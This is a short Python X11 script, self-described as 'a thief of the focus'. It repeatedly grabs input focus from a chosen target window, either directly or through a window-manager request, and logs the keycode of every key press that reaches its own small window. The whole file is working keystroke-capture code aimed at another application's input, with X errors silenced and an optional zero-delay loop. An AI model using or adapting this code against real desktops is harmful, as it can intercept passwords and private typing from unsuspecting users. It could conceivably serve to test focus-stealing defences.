"""A thief of the focus: flips it between its own window and another one, and writes down each key that reaches it.

Run as a program: focus.py TITLE X Y LOG OTHER_WINDOW MILLISECONDS set|ask
`set` calls XSetInputFocus itself, `ask` asks the window manager. With 0 milliseconds it rests not at all.
"""

from __future__ import annotations

import sys
import time
from pathlib import Path

from Xlib import X, Xatom, Xutil
from Xlib.display import Display
from Xlib.protocol import event
from Xlib.xobject.drawable import Window


def main(place: tuple[str, str], title: str, log: str, other: str, rest: tuple[str, str]) -> None:
    milliseconds, how = rest
    display = Display()
    display.set_error_handler(lambda *_: None)
    mine = display.screen().root.create_window(
        int(place[0]), int(place[1]), 60, 40, 0, X.CopyFromParent, event_mask=X.KeyPressMask
    )
    mine.change_property(Xatom.WM_NAME, Xatom.STRING, 8, title.encode())
    mine.set_wm_normal_hints(flags=Xutil.USPosition | Xutil.USSize)
    mine.map()
    theirs = display.create_resource_object("window", int(other))
    display.sync()
    with Path(log).open("a", encoding="utf-8") as heard:
        turn = 0
        while True:
            turn += 1
            (_set if how == "set" else _ask)(display, mine if turn % 2 else theirs)
            while display.pending_events():
                happened = display.next_event()
                if happened.type == X.KeyPress:
                    heard.write(f"{happened.detail}\n")
                    heard.flush()
            time.sleep(int(milliseconds) / 1000)


def _set(display: Display, window: Window) -> None:
    window.set_input_focus(X.RevertToParent, X.CurrentTime)
    display.sync()


def _ask(display: Display, window: Window) -> None:
    kind = display.intern_atom("_NET_ACTIVE_WINDOW")
    message = event.ClientMessage(window=window, client_type=kind, data=(32, [2, X.CurrentTime, 0, 0, 0]))
    mask = X.SubstructureRedirectMask | X.SubstructureNotifyMask
    display.screen().root.send_event(message, event_mask=mask)
    display.sync()


if __name__ == "__main__":
    called, left, top, where, against, pause, means = sys.argv[1:]
    main((left, top), called, where, against, (pause, means))
